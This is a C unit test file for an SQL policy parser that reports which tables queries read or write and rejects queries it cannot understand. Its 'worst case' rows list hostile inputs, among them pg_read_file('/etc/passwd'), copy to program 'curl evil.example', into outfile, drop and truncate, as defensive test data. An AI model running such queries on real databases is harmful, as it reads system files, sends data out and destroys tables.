/* SPDX-License-Identifier: Apache-2.0 */
/* Which tables an SQL text reads and writes, and what is not understood. */
#include "helper_policy.h"

#include "policy/sql.h"
#include <stdio.h>
#include <string.h>

typedef struct sql_row {
    const char *text, *tables; /* `r:users w:auth.log`, sorted as they come; NULL: not understood */
} sql_row;

static const sql_row sql_rows[] = {
    {"select * from users", "r:users"},
    {"SELECT a.b, count(*) FROM Auth.Users a JOIN logs AS l ON a.id = l.id, extra WHERE a.x IN (select y from z) ORDER BY 1, 2",
     "r:auth.users r:logs r:extra r:z"},
    {"select 1", ""},
    {"select * from \"Users\" -- all of them\n", "r:users"},
    {"select * from (select * from a, b) q, c", "r:a r:b r:c"},
    {"select * from (a join b on a.i = b.i) where exists (table d)", "r:a r:b r:d"},
    {"insert into t (a, b) values (1, 'x''y')", "w:t"},
    {"insert into t select * from u returning id", "rw:t r:u"},
    {"insert into t (a) values (1) on conflict (a) do update set a = 2", "w:t"},
    {"update t set a = (select max(x) from u) from v where t.i = v.i", "w:t r:u r:v"},
    {"update a, b set b.x = 1", "rw:a rw:b"},
    {"update a join b on a.i = b.i set b.x = 1", "rw:a rw:b"},
    {"delete from t using u where t.i = u.i", "w:t r:u"},
    {"with q as (delete from t returning *) select * from q", "rw:t r:q"},
    {"select * into copy2 from t", "w:copy2 r:t"},
    {"select * from a union all select * from b; select * from c;", "r:a r:b r:c"},
    {"select * from generate_series(1, 3) g, t", "r:t"},
    {"select 'drop table x; -- no' from t /* nor here */", "r:t"},
    {"select * from t for update", "r:t"},
    {"select lower(name) as n, sum(amount) from orders group by n having count(*) > 1 limit 5", "r:orders"},
    {"delete from a, b using a join c on a.i = c.i", "rw:a w:b r:c"},
    {"select * from t offset join b on true, c", "r:t r:b r:c"},
    {"select * from t where a in (1, 2) order by a, b limit 1, 2", "r:t"},
    {"select a from t union values (1), (2)", "r:t"},
    {"(select a from t) union (select b from u) order by 1, 2", "r:t r:u"},
    {"insert into t (a, b) values (1, 2), (3, 4) returning a, b", "rw:t"},
    {"delete from t where a = 1 returning a, b", "rw:t"},
    {"insert into t select a from u on conflict (a) do update set a = 1, b = 2", "w:t r:u"},
    {"select * from (values (1, 2), (3, 4)) v, t", "r:t"},
    {"with a as (select 1), b as (select 2) insert into t select * from a, b", "w:t r:a r:b"},
    /* worst case */
    {"select * from t set, secret", NULL},
    {"select * from t values, secret", NULL},
    {"select * from t as values (a, b), secret", NULL},
    {"select * from t insert, secret", NULL},
    {"select * from t into, secret", NULL},
    {"select * from t window, secret", NULL},
    {"select * from t offset, secret", NULL},
    {"select * from t offset force index (i), secret", NULL},
    {"select * from t fetch, secret", NULL},
    {"select * from t except, secret", NULL},
    {"select * from t returning, secret", NULL},
    {"select * from t returning indexed by i, secret", NULL},
    {"select * from a join b on a.where = b.x, secret", NULL},
    {"select * from a join b on a.select = b.x, secret", NULL},
    {"select * from t, lateral (select 1) set, secret", NULL},
    {"select * from quick where 1", NULL},
    {"select * from ignore, t", NULL},
    {"select * from (select 1) x, (delayed)", NULL},
    {"drop table t", NULL},
    {"select * from t; truncate t", NULL},
    {"select pg_read_file('/etc/passwd')", NULL},
    {"select \"lo_export\"(1, 'x')", NULL},
    {"select * from dblink('x', 'select 1') as t(a int)", NULL},
    {"copy t to program 'curl evil.example'", NULL},
    {"select 'a\\' from secrets -- '", NULL},
    {"select e'\\x' from t", NULL},
    {"select $$x$$ from t", NULL},
    {"select 1 --+1\n from t", NULL},
    {"select 1 # from t", NULL},
    {"select /*! * from secrets */ 1", NULL},
    {"select /* a /* b */ * from c */ 1", NULL},
    {"select * from [users]", NULL},
    {"select * from 'users'", NULL},
    {"select * from t into outfile '/tmp/x'", NULL},
    {"delete a, b from a join b", NULL},
    {"select * from a.b.c", NULL},
    {"explain analyze delete from t", NULL},
    {"select * from users\xc2\xa0where 1", NULL},
    {"select * from", NULL},
    {"select (1", NULL},
    {"select 1)", NULL},
    {"set search_path = auth; select * from users", NULL},
    {"select 'x", NULL},
    {"replace into t values (1)", NULL},
    {"select 0x41from t", NULL},
};

static void sql_tables(void **state) {
    (void)state;
    for (size_t i = 0; i < sizeof sql_rows / sizeof sql_rows[0]; i++) {
        policy_memory memory;
        il_arena arena;
        il_sql sql;
        char text[512] = "";
        policy_memory_init(&memory);
        il_arena_init(&arena, &memory.alloc, (size_t)8 << 20);
        assert_int_equal(il_sql_read(il_str_of(sql_rows[i].text), &arena, &sql, NULL), IL_OK);
        for (size_t t = 0; t < sql.ntables; t++) {
            const il_sql_table *x = &sql.tables[t];
            (void)snprintf(text + strlen(text), sizeof text - strlen(text), "%s%s:%.*s%s%.*s", text[0] ? " " : "",
                           x->written ? (x->read ? "rw" : "w") : "r", IL_STR_ARG(x->schema), x->schema.n ? "." : "",
                           IL_STR_ARG(x->name));
        }
        if (sql.understood != (sql_rows[i].tables != NULL) || (sql.understood && strcmp(text, sql_rows[i].tables) != 0) ||
            (!sql.understood && sql.why[0] == '\0')) {
            fail_msg("`%s`: %s `%s` %s", sql_rows[i].text, sql.understood ? "understood" : "not understood", text, sql.why);
        }
        il_arena_free(&arena);
    }
}

static void sql_patterns(void **state) {
    (void)state;
    const il_sql_table users = {.name = IL_STR("users")}, auth = {.schema = IL_STR("auth"), .name = IL_STR("users")},
                       tokens = {.name = IL_STR("api_tokens")};
    assert_true(il_sql_meant(&users, IL_STR("users")) && il_sql_meant(&auth, IL_STR("Users")) &&
                il_sql_meant(&users, IL_STR("public.users")));
    assert_true(il_sql_meant(&auth, IL_STR("auth.*")) && !il_sql_meant(&users, IL_STR("auth.*")) &&
                il_sql_meant(&tokens, IL_STR("*_tokens")));
    assert_false(il_sql_meant(&users, IL_STR("user")));
    assert_true(il_sql_catalogue(&(il_sql_table){.schema = IL_STR("pg_catalog"), .name = IL_STR("pg_shadow")}) &&
                !il_sql_catalogue(&users));
}

static void sql_long(void **state) {
    (void)state;
    policy_memory memory;
    il_arena arena;
    il_sql sql;
    static char deep[400];
    memset(deep, '(', sizeof deep);
    memcpy(deep, "select ", 7);
    policy_memory_init(&memory);
    il_arena_init(&arena, &memory.alloc, (size_t)8 << 20);
    assert_int_equal(il_sql_read((il_str){deep, sizeof deep}, &arena, &sql, NULL), IL_OK);
    assert_false(sql.understood);
    assert_int_equal(il_sql_read((il_str){deep, IL_SQL_BYTES_MAX + 1}, &arena, &sql, NULL), IL_OK);
    assert_false(sql.understood);
    il_arena_free(&arena);
}

int main(void) {
    const struct CMUnitTest tests[] = {cmocka_unit_test(sql_tables), cmocka_unit_test(sql_patterns), cmocka_unit_test(sql_long)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
